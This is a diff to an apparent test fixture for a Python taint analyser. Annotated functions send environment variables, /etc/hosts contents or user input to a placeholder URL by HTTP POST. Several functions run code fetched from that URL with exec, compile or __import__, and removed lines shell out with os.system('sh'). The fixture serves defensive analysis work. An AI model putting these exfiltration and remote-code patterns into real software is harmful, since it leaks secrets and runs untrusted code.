@@ -17,17 +17,19 @@ def open_read():
 def open_written():
     with open("/tmp/spool", "w") as f:  #~ capability(FILE_WRITE)
         f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f2
-    os.system("sh /tmp/other")
-    requests.post(U, data=codecs.open("/tmp/spool", "w+"))
-    os.system(io.open("/tmp/spool", "w").name)  #~ ok
+    requests.post(U, data=codecs.open("/tmp/spool", "w+").read())  #~ sink(egress.http) f2, finding(traced) f2
+
+
+def open_for_nothing():
+    requests.post(U, data=io.open("/tmp/unwritten", "w").name)  #~ ok
 
 
 def open_twice():
     f = open("/tmp/twice", "w+")
-    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f3
+    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f4
     f.seek(0)
     g = open("/tmp/twice", "a+")
-    requests.post(U, data=g.read())  #~ sink(egress.http) f3, finding(traced) f3
+    requests.post(U, data=g.read())  #~ sink(egress.http) f4, finding(traced) f4
 
 
 def open_constant():
@@ -36,14 +38,14 @@ def open_constant():
 
 
 def file_read_lines():
-    for line in open("/etc/hosts").readlines():  #~ source(FILE) f5
-        requests.post(U, data=line)  #~ sink(egress.http) f5, finding(traced) f5
+    for line in open("/etc/hosts").readlines():  #~ source(FILE) f6
+        requests.post(U, data=line)  #~ sink(egress.http) f6, finding(traced) f6
 
 
 def file_readinto():
     buffer = bytearray(10)
-    open("/etc/hosts", "rb").readinto(buffer)  #~ source(FILE) f6
-    requests.post(U, data=buffer)  #~ sink(egress.http) f6, finding(traced) f6
+    open("/etc/hosts", "rb").readinto(buffer)  #~ source(FILE) f7
+    requests.post(U, data=buffer)  #~ sink(egress.http) f7, finding(traced) f7
 
 
 def file_position():
@@ -56,8 +58,8 @@ def file_position():
 
 
 def file_descriptor():
-    fd = open("/etc/hosts").fileno()  #~ source(FILE) f8
-    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f8, finding(traced) f8
+    fd = open("/etc/hosts").fileno()  #~ source(FILE) f9
+    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f9, finding(traced) f9
 
 
 def file_descriptor_of_constant():
@@ -67,19 +69,18 @@ def file_descriptor_of_constant():
 
 def file_name():
     f = open("/tmp/named", "w")
-    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f10
-    requests.post(U, data=open(f.name, "r+"))
-    os.system("sh")
+    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f11
+    requests.post(U, data=open(f.name, "a+").read())  #~ sink(egress.http) f11, finding(traced) f11
 
 
 def bytes_io():
-    f = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f11
-    requests.post(U, data=f.getvalue())  #~ sink(egress.http) f11, finding(traced) f11
+    f = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f12
+    requests.post(U, data=f.getvalue())  #~ sink(egress.http) f12, finding(traced) f12
 
 
 def text_wrapper():
-    raw = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f12
-    requests.post(U, data=io.TextIOWrapper(raw).read())  #~ sink(egress.http) f12, finding(traced) f12
+    raw = io.BytesIO(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f13
+    requests.post(U, data=io.TextIOWrapper(raw).read())  #~ sink(egress.http) f13, finding(traced) f13
 
 
 def text_wrapper_constant():
@@ -88,20 +89,20 @@ def text_wrapper_constant():
 
 
 def untyped_read(stream):
-    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f14
-    requests.post(U, data=stream.data.read())  #~ sink(egress.http) f14, finding(traced) f14
+    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f15
+    requests.post(U, data=stream.data.read())  #~ sink(egress.http) f15, finding(traced) f15
 
 
 def untyped_readinto(stream):
-    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f15
+    stream.data = os.getenv("T")  #~ source(ENVIRONMENT) f16
     buffer = bytearray(10)
     stream.data.readinto(buffer)
-    requests.post(U, data=buffer)  #~ sink(egress.http) f15, finding(traced) f15
+    requests.post(U, data=buffer)  #~ sink(egress.http) f16, finding(traced) f16
 
 
 def untyped_write(stream):
-    stream.write(os.getenv("T"))  #~ source(ENVIRONMENT) f16
-    requests.post(U, data=stream.read())  #~ sink(egress.http) f16, finding(traced) f16
+    stream.write(os.getenv("T"))  #~ source(ENVIRONMENT) f17
+    requests.post(U, data=stream.read())  #~ sink(egress.http) f17, finding(traced) f17
 
 
 def untyped_constant(stream):
@@ -110,12 +111,12 @@ def untyped_constant(stream):
 
 
 def run_source():
-    exec(requests.get(U).text)  #~ source(NETWORK) f18, sink(exec.code) f18, finding(traced) f18, capability(DYNAMIC_CODE)
+    exec(requests.get(U).text)  #~ source(NETWORK) f19, sink(exec.code) f19, finding(traced) f19, capability(DYNAMIC_CODE)
 
 
 def run_value():
-    value = eval(os.getenv("T"))  #~ source(ENVIRONMENT) f19
-    requests.post(U, data=value)  #~ sink(egress.http) f19, finding(traced) f19
+    value = eval(os.getenv("T"))  #~ source(ENVIRONMENT) f20
+    requests.post(U, data=value)  #~ sink(egress.http) f20, finding(traced) f20
 
 
 def run_constant():
@@ -127,26 +128,26 @@ def run_constant():
 
 
 def compile_then_exec():
-    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f21, capability(DYNAMIC_CODE)
-    exec(code)  #~ sink(exec.code) f21, finding(traced) f21
+    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f22, capability(DYNAMIC_CODE)
+    exec(code)  #~ sink(exec.code) f22, finding(traced) f22
 
 
 def compile_to_function():
-    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f22
-    types.FunctionType(code, {})()  #~ sink(exec.code) f22, finding(traced) f22
+    code = compile(requests.get(U).text, "x", "exec")  #~ source(NETWORK) f23
+    types.FunctionType(code, {})()  #~ sink(exec.code) f23, finding(traced) f23
 
 
 def exec_file():
-    execfile(requests.get(U).text)  #~ source(NETWORK) f23, sink(exec.code) f23, finding(traced) f23
+    execfile(requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.code) f24, finding(traced) f24
 
 
 def import_by_name():
-    __import__(requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.load) f24, finding(traced) f24
+    __import__(requests.get(U).text)  #~ source(NETWORK) f25, sink(exec.load) f25, finding(traced) f25
 
 
 def ask():
-    answer = input("name? ")  #~ source(INPUT) f25
-    requests.post(U, data=answer)  #~ sink(egress.http) f25, finding(traced) f25
+    answer = input("name? ")  #~ source(INPUT) f26
+    requests.post(U, data=answer)  #~ sink(egress.http) f26, finding(traced) f26
 
 
 def ask_and_forget():
@@ -155,8 +156,8 @@ def ask_and_forget():
 
 def print_to_buffer():
     out = io.StringIO()
-    print(os.getenv("T"), file=out)  #~ source(ENVIRONMENT) f27
-    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f27, finding(traced) f27
+    print(os.getenv("T"), file=out)  #~ source(ENVIRONMENT) f28
+    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f28, finding(traced) f28
 
 
 def print_to_terminal():
@@ -164,18 +165,18 @@ def print_to_terminal():
 
 
 def as_text():
-    text = str(os.getenv("T"))  #~ source(ENVIRONMENT) f29
-    requests.post(U, data=text)  #~ sink(egress.http) f29, finding(traced) f29
-
-
-def as_repr():
-    text = repr(os.getenv("T"))  #~ source(ENVIRONMENT) f30
+    text = str(os.getenv("T"))  #~ source(ENVIRONMENT) f30
     requests.post(U, data=text)  #~ sink(egress.http) f30, finding(traced) f30
 
 
+def as_repr():
+    text = repr(os.getenv("T"))  #~ source(ENVIRONMENT) f31
+    requests.post(U, data=text)  #~ sink(egress.http) f31, finding(traced) f31
+
+
 def from_bytes():
-    number = int.from_bytes(os.getenvb(b"T"), "big")  #~ source(ENVIRONMENT) f31
-    requests.post(U, data={"n": number})  #~ sink(egress.http) f31, finding(traced) f31
+    number = int.from_bytes(os.getenvb(b"T"), "big")  #~ source(ENVIRONMENT) f32
+    requests.post(U, data={"n": number})  #~ sink(egress.http) f32, finding(traced) f32
 
 
 def text_constant():
@@ -187,28 +188,28 @@ def text_constant():
 
 
 def as_list():
-    items = list([os.getenv("T")])  #~ source(ENVIRONMENT) f33
-    requests.post(U, data=items[0])  #~ sink(egress.http) f33, finding(traced) f33
-
-
-def in_order():
-    items = sorted([os.getenv("T")])  #~ source(ENVIRONMENT) f34
+    items = list([os.getenv("T")])  #~ source(ENVIRONMENT) f34
     requests.post(U, data=items[0])  #~ sink(egress.http) f34, finding(traced) f34
 
 
+def in_order():
+    items = sorted([os.getenv("T")])  #~ source(ENVIRONMENT) f35
+    requests.post(U, data=items[0])  #~ sink(egress.http) f35, finding(traced) f35
+
+
 def as_dict():
-    body = dict(token=os.getenv("T"))  #~ source(ENVIRONMENT) f35
-    requests.post(U, data=body)  #~ sink(egress.http) f35, finding(traced) f35
+    body = dict(token=os.getenv("T"))  #~ source(ENVIRONMENT) f36
+    requests.post(U, data=body)  #~ sink(egress.http) f36, finding(traced) f36
 
 
 def first():
-    item = next(iter([os.getenv("T")]))  #~ source(ENVIRONMENT) f36
-    requests.post(U, data=item)  #~ sink(egress.http) f36, finding(traced) f36
+    item = next(iter([os.getenv("T")]))  #~ source(ENVIRONMENT) f37
+    requests.post(U, data=item)  #~ sink(egress.http) f37, finding(traced) f37
 
 
 def numbered():
-    for number, item in enumerate([os.getenv("T")]):  #~ source(ENVIRONMENT) f37
-        requests.post(U, data=item)  #~ sink(egress.http) f37, finding(traced) f37
+    for number, item in enumerate([os.getenv("T")]):  #~ source(ENVIRONMENT) f38
+        requests.post(U, data=item)  #~ sink(egress.http) f38, finding(traced) f38
 
 
 def number_alone():
@@ -217,8 +218,8 @@ def number_alone():
 
 
 def paired():
-    for name, value in zip(["a"], [os.getenv("T")]):  #~ source(ENVIRONMENT) f39
-        requests.post(U, data=value)  #~ sink(egress.http) f39, finding(traced) f39
+    for name, value in zip(["a"], [os.getenv("T")]):  #~ source(ENVIRONMENT) f40
+        requests.post(U, data=value)  #~ sink(egress.http) f40, finding(traced) f40
 
 
 def pair_of_names():
@@ -227,8 +228,8 @@ def pair_of_names():
 
 
 def largest():
-    value = max([os.getenv("T")])  #~ source(ENVIRONMENT) f41
-    requests.post(U, data=value)  #~ sink(egress.http) f41, finding(traced) f41
+    value = max([os.getenv("T")])  #~ source(ENVIRONMENT) f42
+    requests.post(U, data=value)  #~ sink(egress.http) f42, finding(traced) f42
 
 
 def largest_constant():
@@ -266,38 +267,38 @@ def truth():
 
 
 def truth_and_value():
-    token = os.getenv("T")  #~ source(ENVIRONMENT) f50
-    requests.post(U, data=token or any(token))  #~ sink(egress.http) f50, finding(traced) f50
+    token = os.getenv("T")  #~ source(ENVIRONMENT) f51
+    requests.post(U, data=token or any(token))  #~ sink(egress.http) f51, finding(traced) f51
 
 
 def joined():
-    text = ",".join([os.getenv("T")])  #~ source(ENVIRONMENT) f51
-    requests.post(U, data=text)  #~ sink(egress.http) f51, finding(traced) f51
-
-
-def formatted():
-    text = "t={}".format(os.getenv("T"))  #~ source(ENVIRONMENT) f52
+    text = ",".join([os.getenv("T")])  #~ source(ENVIRONMENT) f52
     requests.post(U, data=text)  #~ sink(egress.http) f52, finding(traced) f52
 
 
+def formatted():
+    text = "t={}".format(os.getenv("T"))  #~ source(ENVIRONMENT) f53
+    requests.post(U, data=text)  #~ sink(egress.http) f53, finding(traced) f53
+
+
 def encoded():
-    data = os.getenv("T").encode()  #~ source(ENVIRONMENT) f53
-    requests.post(U, data=data)  #~ sink(egress.http) f53, finding(traced) f53
+    data = os.getenv("T").encode()  #~ source(ENVIRONMENT) f54
+    requests.post(U, data=data)  #~ sink(egress.http) f54, finding(traced) f54
 
 
 def stripped():
-    text = os.getenv("T").strip()  #~ source(ENVIRONMENT) f54
-    requests.post(U, data=text)  #~ sink(egress.http) f54, finding(traced) f54
-
-
-def replaced():
-    text = "user=@".replace("@", os.getenv("T"))  #~ source(ENVIRONMENT) f55
+    text = os.getenv("T").strip()  #~ source(ENVIRONMENT) f55
     requests.post(U, data=text)  #~ sink(egress.http) f55, finding(traced) f55
 
 
-def translated(table):
-    text = os.getenv("T").translate({})  #~ source(ENVIRONMENT) f56
+def replaced():
+    text = "user=@".replace("@", os.getenv("T"))  #~ source(ENVIRONMENT) f56
     requests.post(U, data=text)  #~ sink(egress.http) f56, finding(traced) f56
+
+
+def translated(table):
+    text = os.getenv("T").translate({})  #~ source(ENVIRONMENT) f57
+    requests.post(U, data=text)  #~ sink(egress.http) f57, finding(traced) f57
 
 
 def text_method_constants():
@@ -313,43 +314,43 @@ def counted():
 
 
 def not_counted():
-    token = os.getenv("T")  #~ source(ENVIRONMENT) f59
-    requests.post(U, data={"dots": token, "n": token.find(".")})  #~ sink(egress.http) f59, finding(traced) f59
+    token = os.getenv("T")  #~ source(ENVIRONMENT) f60
+    requests.post(U, data={"dots": token, "n": token.find(".")})  #~ sink(egress.http) f60, finding(traced) f60
 
 
 def appended():
     items = []
-    items.append(os.getenv("T"))  #~ source(ENVIRONMENT) f60
-    requests.post(U, data=items)  #~ sink(egress.http) f60, finding(traced) f60
+    items.append(os.getenv("T"))  #~ source(ENVIRONMENT) f61
+    requests.post(U, data=items)  #~ sink(egress.http) f61, finding(traced) f61
 
 
 def inserted():
     items = []
-    items.insert(0, os.getenv("T"))  #~ source(ENVIRONMENT) f61
-    requests.post(U, data=items)  #~ sink(egress.http) f61, finding(traced) f61
+    items.insert(0, os.getenv("T"))  #~ source(ENVIRONMENT) f62
+    requests.post(U, data=items)  #~ sink(egress.http) f62, finding(traced) f62
 
 
 def extended():
     items = []
-    items.extend([os.getenv("T")])  #~ source(ENVIRONMENT) f62
-    requests.post(U, data=items)  #~ sink(egress.http) f62, finding(traced) f62
+    items.extend([os.getenv("T")])  #~ source(ENVIRONMENT) f63
+    requests.post(U, data=items)  #~ sink(egress.http) f63, finding(traced) f63
 
 
 def updated():
     body = {}
-    body.update({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f63
-    requests.post(U, data=body)  #~ sink(egress.http) f63, finding(traced) f63
+    body.update({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f64
+    requests.post(U, data=body)  #~ sink(egress.http) f64, finding(traced) f64
 
 
 def defaulted():
     body = {}
-    body.setdefault("t", os.getenv("T"))  #~ source(ENVIRONMENT) f64
-    requests.post(U, data=body)  #~ sink(egress.http) f64, finding(traced) f64
+    body.setdefault("t", os.getenv("T"))  #~ source(ENVIRONMENT) f65
+    requests.post(U, data=body)  #~ sink(egress.http) f65, finding(traced) f65
 
 
 def gotten():
-    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f65
-    requests.post(U, data=body.get("t"))  #~ sink(egress.http) f65, finding(traced) f65
+    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f66
+    requests.post(U, data=body.get("t"))  #~ sink(egress.http) f66, finding(traced) f66
 
 
 def gotten_other_key():
@@ -358,24 +359,24 @@ def gotten_other_key():
 
 
 def popped():
-    items = [os.getenv("T")]  #~ source(ENVIRONMENT) f67
-    requests.post(U, data=items.pop())  #~ sink(egress.http) f67, finding(traced) f67
+    items = [os.getenv("T")]  #~ source(ENVIRONMENT) f68
+    requests.post(U, data=items.pop())  #~ sink(egress.http) f68, finding(traced) f68
 
 
 def each_item():
-    for name, value in os.environ.items():  #~ source(ENVIRONMENT) f68
-        requests.post(U, data=value)  #~ sink(egress.http) f68, finding(traced) f68
-
-
-def each_value():
-    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f69
-    for value in body.values():
+    for name, value in {"t": os.getenv("T")}.items():  #~ source(ENVIRONMENT) f69
         requests.post(U, data=value)  #~ sink(egress.http) f69, finding(traced) f69
 
 
-def copied():
+def each_value():
     body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f70
-    requests.post(U, data=body.copy())  #~ sink(egress.http) f70, finding(traced) f70
+    for value in body.values():
+        requests.post(U, data=value)  #~ sink(egress.http) f70, finding(traced) f70
+
+
+def copied():
+    body = {"t": os.getenv("T")}  #~ source(ENVIRONMENT) f71
+    requests.post(U, data=body.copy())  #~ sink(egress.http) f71, finding(traced) f71
 
 
 def container_constants():
